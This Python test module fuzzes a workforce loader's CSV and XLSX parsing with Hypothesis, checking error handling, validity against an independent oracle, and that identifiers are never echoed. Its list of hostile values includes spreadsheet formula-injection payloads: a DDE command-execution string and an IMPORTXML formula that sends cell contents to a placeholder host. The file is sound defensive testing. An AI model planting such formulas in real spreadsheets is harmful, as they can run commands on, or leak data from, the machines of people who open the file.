"""Fuzzing the employee-file loaders (CSV and XLSX) with Hypothesis.

Each case corrupts a valid file (cells replaced by hostile text, numbers beyond every range,
typed Excel values, merged ranges, stray formatted cells, random bytes) and checks the three
promises of issue 9: the loader raises nothing but ``InputError``; a cell that an independent
oracle (below, written from docs/data.md, not from the checker) calls invalid is never accepted;
a file that loads keeps every employee row. ``pytest --hypothesis-profile=long`` runs 10,000
cases per test (see docs/reliability.md for the figures).
"""

from __future__ import annotations

import csv
import datetime as dt
import math
import re
import tempfile
from pathlib import Path

import openpyxl
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl.styles import Font
from test_loader import rows, table

from kinerja_sim.errors import InputError
from kinerja_sim.workforce import schema as sc
from kinerja_sim.workforce.loader import load_workforce
from kinerja_sim.workforce.model import EXTERNAL_RATER

SALT = "fuzz"
N_ROWS = 4
BASE = rows(N_ROWS)
HEADER, BODY = table(BASE)
COLUMNS = {c.name: c for c in sc.columns(slots=sc.MAX_SLOTS, identity="nip")}
FUZZ = settings(suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])

# -- the oracle: validity of one cell, from docs/data.md ------------------------------------

_DECIMAL = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def oracle_invalid(name: str, text: str) -> bool:
    """True when docs/data.md says this cell value can never be valid in column ``name``
    (False means "valid or depends on other cells")."""
    c = COLUMNS.get(name)
    v = text.strip()
    if c is None or name == sc.NAME_COLUMN:
        return False
    if v == "":
        return c.cell == "required" and c.column_required
    if c.kind in ("integer", "number"):
        if not _DECIMAL.fullmatch(v):
            return True
        x = float(v)
        if not math.isfinite(x) or (c.kind == "integer" and x != int(x)):
            return True
        if c.minimum is not None and (x <= c.minimum if c.exclusive_minimum else x < c.minimum):
            return True
        return c.maximum is not None and x > c.maximum
    if c.kind == "category":
        return v.lower() not in {a.lower() for a in c.allowed}
    if c.kind == "boolean":
        return v.lower() not in (*sc.TRUE_WORDS, *sc.FALSE_WORDS)
    if c.kind == "nip":
        if name == "nip_penilai" and v.upper() == EXTERNAL_RATER:
            return False
        digits = re.sub(r"^(nip\s*[.:]?\s*)|[\s./\-]", "", v, flags=re.IGNORECASE)
        return not re.fullmatch(r"[0-9]{18}", digits)
    return False


# -- hostile values --------------------------------------------------------------------------

TRIGGERS = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", " =", "'"])
FORMULAS = st.sampled_from([
    '=HYPERLINK("http://x","klik")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-2+3",
    "=1/0", '=IMPORTXML(CONCAT("http://x/?",A1),"//a")'])
NUMBERS = st.one_of(
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    st.floats(min_value=-1e300, max_value=1e300).map(lambda x: f"{x:.17g}"),
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    st.sampled_from(["1e20", "9007199254740993", "-0", "0x10", "1_000", "12,5", "1.500.000",
                     "nan", "inf", "-inf", "１２", "٣", "1e-400", "1e400", " 7 ", "3.0", "3.7",
                     "366", "367", "1e15", "1.0000000000000002e15", ".5", "5.", "+5"]),
)
IDENTIFIERS = st.sampled_from([
    "199001012015031001", "19900101 201503 1 001", "1990.0101.2015.03.1.001",
    "NIP. 199001012015031001", "NIP:199001012015031001", "1.99001E+17", "199001012015031001.0",
    "Budi Santoso", "P-0123456789ab", "E0000001", "WALIKOTA", "walikota"])
TEXT = st.text(max_size=30)
VALUES = st.one_of(TEXT, NUMBERS, IDENTIFIERS,
                   st.builds(lambda t, s: t + s, TRIGGERS, TEXT), FORMULAS,
                   st.sampled_from(["", " ", "ya", "TIDAK", "PNS", "iii", "Fungsional",
                                    "vaksinasi", "kesehatan", "L", "p"]))
EDITS = st.lists(st.tuples(st.integers(0, N_ROWS - 1), st.sampled_from(HEADER), VALUES),
                 min_size=1, max_size=4)


def _edited(edits) -> tuple[list[list[str]], list[tuple[str, str]]]:
    body = [list(r) for r in BODY]
    for r, col, value in edits:
        body[r][HEADER.index(col)] = value
    final = [(col, body[r][HEADER.index(col)]) for r, col, _ in edits]
    return body, final


def _secret(value: str) -> bool:
    """A value that identifies someone: a run of 8+ digits, possibly grouped (a NIP or part of
    one), or a person's name. (Shorter digit groups such as '1.99001E+17' identify no one and
    may be quoted when the same text sits in a non-identifier column.)"""
    runs = re.findall(r"\d[\d .\-/]{6,}\d", value)
    return any(sum(ch.isdigit() for ch in r) >= 8 for r in runs) or value.strip() == "Budi Santoso"


def _check(path: Path, final_cells: list[tuple[str, str]], n_rows: int,
           must_fail: bool = False) -> None:
    # a value also written into an ordinary column may be quoted there ('Staf' is not an
    # allowed value): only values that sit in identifier columns alone must never appear
    elsewhere = {v for c, v in final_cells if c not in ("nip", "nip_penilai", "nama")}
    try:
        wf = load_workforce(path, salt=SALT)
    except InputError as e:
        assert e.problems  # one message listing problems; nothing else may escape
        text = str(e)
        for col, value in final_cells:  # identifier cells are never echoed
            if col in ("nip", "nip_penilai", "nama") and _secret(value) and \
                    value not in elsewhere:
                assert value.strip() not in text, (col, value)
        return
    invalid = [(c, v) for c, v in final_cells if oracle_invalid(c, v)]
    assert not must_fail, "the file should have been rejected"
    assert not invalid, f"silently accepted invalid cells: {invalid}"
    assert wf.n == n_rows  # no row lost or invented
    dump = wf.employees.astype(str).to_csv()
    for col, value in final_cells:
        if col in ("nip", "nip_penilai", "nama") and _secret(value):
            assert value.strip() not in dump


@FUZZ
@given(edits=EDITS, delimiter=st.sampled_from([",", ";", "\t"]),
       blank_lines=st.integers(0, 3), bom=st.booleans())
def test_fuzz_csv_loader(edits, delimiter, blank_lines, bom):
    body, final = _edited(edits)
    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / "pegawai.csv"
        with open(path, "w", newline="", encoding="utf-8-sig" if bom else "utf-8") as f:
            w = csv.writer(f, delimiter=delimiter)
            w.writerow(HEADER)
            for line in body:
                w.writerow(line)
                for _ in range(blank_lines):
                    f.write(delimiter * (len(HEADER) - 1) + "\r\n")
        _check(path, final, N_ROWS)


@FUZZ
@given(data=st.data())
def test_fuzz_csv_loader_random_bytes(data):
    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / "pegawai.csv"
        buf = bytearray(_csv_bytes())
        for _ in range(data.draw(st.integers(1, 6))):
            pos = data.draw(st.integers(0, len(buf) - 1))
            op = data.draw(st.sampled_from(["flip", "insert", "delete"]))
            if op == "flip":
                buf[pos] = data.draw(st.integers(0, 255))
            elif op == "insert":
                buf[pos:pos] = data.draw(st.binary(min_size=1, max_size=8))
            else:
                del buf[pos:pos + data.draw(st.integers(1, 40))]
        path.write_bytes(bytes(buf))
        try:
            wf = load_workforce(path, salt=SALT)
        except InputError as e:
            assert e.problems
        else:
            assert 1 <= wf.n <= N_ROWS + 1


def _csv_bytes() -> bytes:
    lines = [",".join(HEADER)] + [",".join(r) for r in BODY]
    return ("\n".join(lines) + "\n").encode("utf-8")


# -- XLSX ------------------------------------------------------------------------------------

TYPED = st.one_of(
    VALUES,
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.datetimes(min_value=dt.datetime(1901, 1, 1), max_value=dt.datetime(9999, 1, 1)),
)
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _as_text(v) -> str:
    """The text a cell value reads as (how docs/data.md describes Excel cells)."""
    if isinstance(v, bool):
        return "true" if v else "false"
    if isinstance(v, int):
        return str(v)
    if isinstance(v, float):
        return repr(v)
    if isinstance(v, dt.datetime):
        return v.isoformat()
    return v


@FUZZ
@given(edits=st.lists(st.tuples(st.integers(0, N_ROWS - 1), st.sampled_from(HEADER), TYPED),
                      min_size=1, max_size=4),
       merge=st.none() | st.tuples(st.integers(2, N_ROWS + 1), st.integers(1, len(HEADER))),
       corner=st.booleans(), bogus_dimension=st.booleans())
@example(edits=[(0, "nama", "=")], merge=None, corner=False, bogus_dimension=False)  # long run 1
@example(edits=[(0, "inovasi", 0.0)], merge=None, corner=False, bogus_dimension=False)  # run 2
@example(edits=[(0, "nama", "=0")], merge=None, corner=False, bogus_dimension=False)  # run 3
def test_fuzz_xlsx_loader(edits, merge, corner, bogus_dimension):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "pegawai"
    ws.append(HEADER)
    body = [list(r) for r in BODY]
    for r, col, value in edits:
        if isinstance(value, str):
            value = _ILLEGAL.sub("", value)  # openpyxl cannot write these at all
        body[r][HEADER.index(col)] = value
    for line in body:
        ws.append([None if v == "" else v for v in line])
    # openpyxl stores a text of two or more characters starting with "=" as a formula
    # (openpyxl.cell.cell: ``len(value) > 1 and value.startswith("=")``); a lone "=" stays text
    # (docs/data.md: a formula is an error in every column the loader reads; `nama` is never
    # read, it is dropped on load)
    formulas = any(isinstance(v, str) and len(v) > 1 and v.startswith("=")
                   for line in body for name, v in zip(HEADER, line, strict=True)
                   if name != sc.NAME_COLUMN)
    if merge is not None:
        r, c = merge
        ws.merge_cells(start_row=r, start_column=c, end_row=r, end_column=c + 1)
    if corner:
        ws["XFD1048576"].font = Font(bold=True)
    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / "pegawai.xlsx"
        wb.save(path)
        # the oracle judges each edited cell as the file stores it: openpyxl writes a whole
        # float as an integer (0.0 is stored as <v>0</v>, as Excel stores a typed 0)
        stored = openpyxl.load_workbook(path)["pegawai"]
        final = [(col, "" if (v := stored.cell(r + 2, HEADER.index(col) + 1).value) is None
                  else _as_text(v)) for r, col, _ in edits]
        if bogus_dimension:
            _rewrite_dimension(path)
        _check(path, [] if formulas else final, N_ROWS, must_fail=merge is not None or formulas)


def _rewrite_dimension(path: Path) -> None:
    import zipfile

    src = path.read_bytes()
    tmp = path.with_suffix(".tmp")
    tmp.write_bytes(src)
    with zipfile.ZipFile(tmp) as zin, zipfile.ZipFile(path, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename.startswith("xl/worksheets/sheet"):
                data = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', data)
            zout.writestr(item, data)
